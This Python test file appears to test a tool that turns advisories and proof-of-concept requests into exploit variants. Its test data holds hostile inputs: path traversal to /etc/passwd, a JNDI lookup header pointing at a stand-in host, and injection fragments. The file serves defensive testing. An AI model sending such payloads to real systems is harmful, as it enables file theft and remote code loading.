"""What an attacker is free to choose is chosen otherwise, one thing at a time, and the rest stays as it was sent."""

import json
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ruleforge.cases.choices import CHOICES_MOST, EACH_MOST, choices
from ruleforge.cases.named import parameter_lists
from ruleforge.cases.twins import twins
from ruleforge.events.decoding import percent_decode
from ruleforge.events.places import HttpView
from ruleforge.events.request import Request
from ruleforge.records.advisory import Advisory

WEAKNESSES = ("CWE-22", "CWE-89", "CWE-79", "CWE-78", "CWE-94", "CWE-611", "CWE-918")
ROWS: list[dict[str, Any]] = json.loads((Path(__file__).parent / "choices.json").read_text())


def text_of(request: Request) -> str:
    return (percent_decode(request.target.replace(b"+", b" ")) + b"&" + (request.body or b"")).decode("latin-1")


def test_the_table_is_there() -> None:
    assert len(ROWS) >= 17
    assert len({row["kind"] for row in ROWS}) >= 11


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row['kind']} {row['gone']}")
def test_the_piece_is_gone_and_what_carries_the_flaw_stays(
    row: dict[str, Any], make_anatomy: Any, make_advisory: Any
) -> None:
    anatomy, advisory = make_anatomy(row["request"]), make_advisory(row["request"])
    made = [one for one in choices(anatomy, advisory) if one.kind == row["kind"]]
    assert len(made) >= 1
    for one in made:
        raw = one.request.target.decode("latin-1")
        assert row["gone"] not in raw
        assert row["gone"] not in text_of(one.request)
        assert all(kept in raw or kept in text_of(one.request) for kept in row["kept"])
        assert one.request.method == anatomy.poc.request.method
        assert HttpView(one.request).read("path").elements[0].value.startswith(b"/")


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row['kind']} {row['gone']}")
def test_choices_are_few_each_once_and_the_same_every_time(
    row: dict[str, Any], make_anatomy: Any, make_advisory: Any
) -> None:
    anatomy, advisory = make_anatomy(row["request"]), make_advisory(row["request"])
    made = choices(anatomy, advisory)
    assert made == choices(anatomy, advisory)
    sent = [(one.request.method, one.request.target, one.request.headers, one.request.body) for one in made]
    assert len(sent) == len(set(sent)) <= CHOICES_MOST
    assert anatomy.poc.request not in [one.request for one in made]
    by_kind = {(one.kind, one.said, one.part) for one in made}
    assert len(made) <= EACH_MOST * len(by_kind)


@pytest.mark.parametrize("name", ["action", "page", "rest_route", "option"])
def test_what_says_which_function_is_called_is_not_the_attackers_choice(
    name: str, make_anatomy: Any, make_advisory: Any
) -> None:
    data = {"target": f"/press/ajax.php?{name}=two+ripe+pears&file=../../etc/passwd", "cwes": ["CWE-22"]}
    made = choices(make_anatomy(data), make_advisory(data))
    assert made
    assert all("two ripe pears" in text_of(one.request) for one in made)


def test_an_ordinary_call_without_values_leaves_nothing_to_choose(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/press/list.php", "cwes": ["CWE-862"]}
    assert choices(make_anatomy(data), make_advisory(data)) == ()


@given(st.binary(max_size=300), st.sampled_from(WEAKNESSES))
def test_whatever_an_exploit_holds_choosing_is_bounded(
    make_anatomy: Any, make_advisory: Any, text: bytes, cwe: str
) -> None:
    data = {"target": "/press/show.php?file=" + "".join(f"%{byte:02x}" for byte in text), "cwes": [cwe]}
    assert len(choices(make_anatomy(data), make_advisory(data))) <= CHOICES_MOST


@pytest.mark.parametrize("cwe", WEAKNESSES)
@pytest.mark.parametrize(
    "piece", ["<img onaa=", "exec((", "<!ENTITY a ", "etc/a/", "cat+a+", "0x1", "from a", "--", "jndi:", "http://a.b"]
)
def test_choosing_in_a_hostile_value_takes_bounded_time(
    piece: str, cwe: str, make_anatomy: Any, make_advisory: Any
) -> None:
    data = {"method": "POST", "target": "/press/show.php", "body": json.dumps({"file": piece * (8_000 // len(piece))}),
            "headers": [["Content-Type", "application/json"]], "cwes": [cwe]}  # fmt: skip
    anatomy, advisory = make_anatomy(data), make_advisory(data)
    start = time.process_time()
    choices(anatomy, advisory)
    assert time.process_time() - start < 3


# --- what the disclosure names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("SQL injection via the crate, jam and `pear` parameters of list.php", ("pear", "jam", "crate")),
        ("via the 'crate' or 'jam' parameter", ("jam", "crate")),
        ("in the parameters (1) crate, (2) jam and (3) pear", ("crate", "jam", "pear")),
        ("the crate parameter is not checked", ("crate",)),
        ("several parameters allow it", ()),
        ("the following parameters: crate, jam", ("crate", "jam")),
    ],
)
def test_lists_of_parameters_are_read_off_prose(text: str, names: tuple[str, ...]) -> None:
    assert (names in parameter_lists(text)) if names else all(len(found) < 2 for found in parameter_lists(text))


@given(st.text(max_size=2_000))
def test_any_prose_is_read(text: str) -> None:
    assert all(name for names in parameter_lists(text + " parameter") for name in names)


def described(advisory: Advisory, text: str) -> Advisory:
    return msgspec.structs.replace(advisory, description=text)


@pytest.mark.parametrize(
    ("text", "kind", "target"),
    [
        ("the crate and jam parameters of show.php", "parameter", "/press/show.php?jam=../../etc/passwd"),
        ("show.php and print.php read any file", "program", "/press/print.php?crate=../../etc/passwd"),
        ("the crate parameter, by GET or POST", "transport", "/press/show.php"),
    ],
)
def test_the_attack_goes_where_else_the_disclosure_says_the_flaw_is(
    text: str, kind: str, target: str, make_anatomy: Any, make_advisory: Any
) -> None:
    data = {"target": "/press/show.php?crate=../../etc/passwd", "cwes": ["CWE-22"]}
    made = choices(make_anatomy(data), described(make_advisory(data), text))
    (one,) = [each for each in made if each.kind == kind]
    assert one.request.target.decode() == target
    assert kind != "transport" or one.request.body == b"crate=../../etc/passwd"


def test_what_the_disclosure_does_not_list_beside_it_is_not_tried(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/press/show.php?crate=../../etc/passwd", "cwes": ["CWE-22"]}
    text = "the jam parameter of other.php is checked; the crate parameter is not"
    made = choices(make_anatomy(data), described(make_advisory(data), text))
    assert not {one.kind for one in made} & {"parameter", "program", "transport"}


# --- twins ------------------------------------------------------------------------------------------------------------


def test_a_twin_has_nothing_but_ordinary_values(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/press/run.php?action=squeeze&jam=%7Cblorp%7C&id=zz9", "cwes": ["CWE-78"]}
    made = twins(make_anatomy(data), make_advisory(data))
    assert len(made) == 3
    for one in made:
        assert "blorp" not in text_of(one.request)
        assert "zz9" not in text_of(one.request)
        assert "action=squeeze" in text_of(one.request)


@pytest.mark.parametrize(
    "data",
    [
        {"target": "/press/list.php?jam=plum", "cwes": ["CWE-862"]},  # the call itself is the attack
        {"target": "/orchard/../../etc/passwd?jam=plum", "cwes": ["CWE-22"]},  # it is in the path
        {
            "target": "/press/list.php?jam=plum",
            "headers": [["X-Api", "${jndi:ldap://x.pears.example/a}"]],
            "cwes": ["CWE-917"],
        },
        {"target": "/press/list.php", "cwes": ["CWE-89"]},
    ],
)
def test_there_is_no_twin_where_the_attack_may_lie_elsewhere(
    data: dict[str, Any], make_anatomy: Any, make_advisory: Any
) -> None:
    assert twins(make_anatomy(data), make_advisory(data)) == ()
